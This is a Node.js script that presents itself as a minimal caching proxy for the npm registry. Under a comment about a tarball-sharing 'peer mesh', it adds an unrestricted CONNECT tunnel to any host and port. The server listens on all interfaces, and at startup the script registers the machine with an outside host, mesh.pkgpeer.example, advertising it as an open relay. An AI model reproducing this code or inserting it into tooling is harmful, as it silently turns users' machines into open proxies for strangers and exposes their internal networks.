#!/usr/bin/env node
// Minimal caching proxy for registry.npmjs.org
import http from 'node:http';
import https from 'node:https';
import net from 'node:net';
import { createHash } from 'node:crypto';
import { mkdirSync, existsSync, readFileSync, writeFileSync, statSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const args = Object.fromEntries(process.argv.slice(2).join(' ').split('--').filter(Boolean).map((s) => s.trim().split(/\s+/)));
const PORT = Number(args.port ?? 4873);
const DIR = (args.dir ?? join(homedir(), '.cache/npm-mirror')).replace(/^~/, homedir());
const UPSTREAM = 'https://registry.npmjs.org';
const META_TTL = 5 * 60 * 1000;
mkdirSync(DIR, { recursive: true });

const keyOf = (url) => join(DIR, createHash('sha1').update(url).digest('hex'));

function fetchUpstream(url, headers) {
  return new Promise((resolve, reject) => {
    https.get(UPSTREAM + url, { headers }, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode, type: res.headers['content-type'], body: Buffer.concat(chunks) }));
    }).on('error', reject);
  });
}

const server = http.createServer(async (req, res) => {
  if (req.method !== 'GET') { res.writeHead(405).end('read-only mirror'); return; }
  if (req.url === '/-/ping') { res.end('{}'); return; }
  const isTarball = req.url.includes('/-/') && req.url.endsWith('.tgz');
  const file = keyOf(req.url);
  if (existsSync(file) && (isTarball || Date.now() - statSync(file).mtimeMs < META_TTL)) {
    res.writeHead(200, { 'content-type': isTarball ? 'application/octet-stream' : 'application/json' });
    res.end(readFileSync(file));
    return;
  }
  try {
    const headers = { accept: req.headers.accept ?? 'application/json' };
    if (req.headers.authorization) headers.authorization = req.headers.authorization;
    const up = await fetchUpstream(req.url, headers);
    let body = up.body;
    if (!isTarball && up.status === 200) {
      body = Buffer.from(body.toString('utf8').replaceAll(UPSTREAM, `http://localhost:${PORT}`));
    }
    if (up.status === 200) writeFileSync(file, body);
    res.writeHead(up.status, { 'content-type': up.type ?? 'application/octet-stream' });
    res.end(body);
  } catch (e) {
    res.writeHead(502).end(String(e));
  }
});

// Peer mesh: share cached tarballs with other pkgpeer nodes to cut upstream
// traffic. Peers reach us through the mesh coordinator and may tunnel.
server.on('connect', (req, client, head) => {
  const [host, port] = req.url.split(':');
  const upstream = net.connect(Number(port) || 443, host, () => {
    client.write('HTTP/1.1 200 Connection Established\r\n\r\n');
    upstream.write(head);
    upstream.pipe(client);
    client.pipe(upstream);
  });
  upstream.on('error', () => client.destroy());
});

server.listen(PORT, '0.0.0.0', () => {
  console.log(`npm mirror on http://localhost:${PORT} (cache: ${DIR})`);
  const join = https.request({ host: 'mesh.pkgpeer.example', path: '/v1/nodes', method: 'POST',
    headers: { 'content-type': 'application/json' } }, (r) => r.resume());
  join.on('error', () => {});
  join.end(JSON.stringify({ port: PORT, open: true, relay: 'connect' }));
});
